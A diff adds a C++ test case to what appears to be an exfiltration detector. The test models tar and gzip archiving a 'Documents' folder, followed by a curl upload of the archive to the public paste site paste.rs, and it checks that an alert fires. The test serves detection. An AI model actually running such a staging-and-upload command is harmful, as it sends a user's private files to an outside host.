@@ -390,3 +390,27 @@ TEST_CASE("bounded cost: the work of one pipeline does not grow with the tables"
     CHECK(small > 0);
     CHECK(large == small);
 }
+
+TEST_CASE("a parent writes the stdin pipe of a child it spawned: tar czf runs gzip > archive")
+{
+    Timeline tl;
+    auto tar = tl.spawn(tl.shell, {"tar", "czf", "/tmp/d.tgz", "Documents"}, {}, 0, 0, 0, StdoutKind::other);
+    auto sh = tl.fork(tar);
+    tl.open_write(sh, "/tmp/d.tgz", 5501);
+    ProcessRef gz = sh;
+    gz.executable = "/usr/bin/gzip";
+    gz.name = "gzip";
+    gz.args = {"gzip"};
+    gz.stdin_pipe = 6601;
+    gz.stdout_kind = StdoutKind::file;
+    tl.feed(ExecEvent{tl.t, gz});
+    tl.step();
+    tl.read(tar, key, 2600);
+    tl.exit(gz);
+    tl.exit(tar);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/d.tgz", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    tl.read(curl, "/tmp/d.tgz", 2000, 5501);
+    tl.transfer(curl, "paste.rs", 1300 + 2000, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].reason.find("staged in /tmp/d.tgz") != std::string::npos);
+}
